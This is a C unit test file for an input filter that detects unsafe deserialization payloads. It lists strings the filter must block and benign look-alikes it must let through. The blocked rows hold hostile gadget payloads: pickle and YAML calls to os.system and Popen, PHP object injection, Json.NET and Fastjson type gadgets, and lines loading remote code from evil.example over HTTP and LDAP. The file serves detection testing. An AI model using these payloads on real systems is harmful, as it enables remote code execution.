/** Texts that readers of objects run, and texts that only look like such streams. */
#include "tests/unit/filter_case.h"

static struct filter_case it;

static int set_up(void **state)
{
    (void)state;
    filter_case_open(&it, NULL);
    return 0;
}

static int tear_down(void **state)
{
    (void)state;
    filter_case_close(&it);
    return 0;
}

static void blocks_streams_tags_and_types(void **state)
{
    (void)state;
    static const struct filter_row rows[] = {
        {"object 0", PEN_STR("rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA")},
        {"object 1", PEN_STR("token=rO0ABXQABGFiY2Q=")},
        {"object 2", PEN_STR("aced00057372001164617461")},
        {"object 3", PEN_STR("AAEAAAD/////AQAAAAAAAAAMAgAAAFdTeXN0ZW0u")},
        {"object 4", PEN_STR("gASVIQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOU")},
        {"object 5", PEN_STR("BAhvOhVHZW06OlJlcXVpcmVtZW50")},
        {"object 6", PEN_STR("O:8:\"Example1\":1:{s:3:\"cmd\";s:2:\"id\";}")},
        {"object 7", PEN_STR("O:+8:\"Example1\":0:{}")},
        {"object 8", PEN_STR("C:11:\"ArrayObject\":21:{x:i:0;a:0:{};m:a:0:{}}")},
        {"object 9", PEN_STR("a:1:{i:0;O:8:\"Example1\":0:{}}")},
        {"object 10", PEN_STR("x|O:8:\"Example1\":0:{}")},
        {"object 11", PEN_STR("a:2:{s:4:\"user\";s:5:\"admin\";s:2:\"ok\";b:1;}")},
        {"object 12", PEN_STR("!!python/object/apply:os.system [\"id\"]")},
        {"object 13", PEN_STR("a: !!python/object/new:subprocess.Popen [id]")},
        {"object 14", PEN_STR("!!python/name:os.system")},
        {"object 15", PEN_STR("--- !ruby/object:Gem::Requirement")},
        {"object 16", PEN_STR("!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader "
                              "[[!!java.net.URL [\"http://evil.example/\"]]]]")},
        {"object 17", PEN_STR("!!com.sun.rowset.JdbcRowSetImpl {dataSourceName: x}")},
        {"object 18", PEN_STR("{\"rce\":\"_$$ND_FUNC$$_function(){return 1}()\"}")},
        {"object 19", PEN_STR("{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":"
                              "\"ldap://evil.example\"}")},
        {"object 20",
         PEN_STR("{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\"}")},
        {"object 21",
         PEN_STR("'$type':'System.Diagnostics.Process, System, PublicKeyToken=b77a5c561934e089'")},
        {"object 22", PEN_STR("<java class=\"java.beans.XMLDecoder\"><object "
                              "class=\"java.lang.ProcessBuilder\"/></java>")},
        {"object 23", PEN_STR("<sorted-set><dynamic-proxy><interface>java.lang.Comparable</"
                              "interface></dynamic-proxy></sorted-set>")},
        {"object 24", PEN_STR("<?php __HALT_COMPILER(); ?>")},
        {"object 25", PEN_STR("{\"a\":\"$$BCEL$$$l$8b$I$A\"}")},
        {"pickle's first protocol", PEN_STR("cos\nsystem\n(S'id'\ntR.")},
    };
    filter_case_blocks(&it, "deser", rows, PEN_COUNT_OF(rows));
}

static void stays_silent_on_ordinary_data(void **state)
{
    (void)state;
    static const struct filter_row rows[] = {
        {"text 0", PEN_STR("O:12")},
        {"text 1", PEN_STR("at 10:30 o'clock")},
        {"text 2", PEN_STR("O'Brien: 12")},
        {"text 3", PEN_STR("a:b:c")},
        {"text 4", PEN_STR("a:1")},
        {"text 5", PEN_STR("Ratio a:2:3")},
        {"text 6", PEN_STR("aGVsbG8gd29ybGQ=")},
        {"text 7", PEN_STR("SGVsbG8sIFdvcmxkIQ==")},
        {"text 8", PEN_STR("H4sIAAAAAAAAA0tMTAQALXMH8AMAAAA=")},
        {"text 9", PEN_STR("BAhHello")},
        {"text 10", PEN_STR("!important")},
        {"text 11", PEN_STR("!!important note")},
        {"text 12", PEN_STR("!!! warning")},
        {"text 13", PEN_STR("Hello!!python is great")},
        {"text 14", PEN_STR("!include file.yaml")},
        {"text 15", PEN_STR("!Ref MyBucket")},
        {"text 16", PEN_STR("!Sub ${x}")},
        {"text 17", PEN_STR("!GetAtt a.b")},
        {"text 18",
         PEN_STR("java.lang.NullPointerException at com.example.Main.main(Main.java:5)")},
        {"text 19", PEN_STR("The class java.lang.Runtime is part of the JDK.")},
        {"text 20", PEN_STR("org.apache.commons.collections was updated to 3.2.2 because of a bug "
                            "in the library.")},
        {"text 21", PEN_STR("{\"@type\":\"Person\",\"name\":\"Jane\"}")},
        {"text 22", PEN_STR("{\"@type\":\"type.googleapis.com/google.protobuf.Duration\"}")},
        {"text 23", PEN_STR("{\"$type\":\"app.bsky.feed.post\"}")},
        {"text 24", PEN_STR("<bean class=\"com.example.Service\"/>")},
        {"text 25", PEN_STR("PublicKeyToken=b77a5c561934e089")},
        {"text 26", PEN_STR("phar")},
        {"text 27", PEN_STR("Pharaoh")},
        {"text 28", PEN_STR("cos\nsin\ntan")},
        {"text 29", PEN_STR("System.IO.FileInfo")},
    };
    filter_case_passes(&it, "deser", rows, PEN_COUNT_OF(rows));
}

static void is_linear_where_it_could_be_quadratic(void **state)
{
    (void)state;
    static const struct pen_str pieces[] = {PEN_STR("O:1:\""),   PEN_STR("a:1:{"),
                                            PEN_STR("!!python"), PEN_STR("$type"),
                                            PEN_STR("cos\n"),    PEN_STR("!")};
    filter_case_endures(&it, pieces, PEN_COUNT_OF(pieces));
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(blocks_streams_tags_and_types),
        cmocka_unit_test(stays_silent_on_ordinary_data),
        cmocka_unit_test(is_linear_where_it_could_be_quadratic),
    };
    return cmocka_run_group_tests(tests, set_up, tear_down);
}
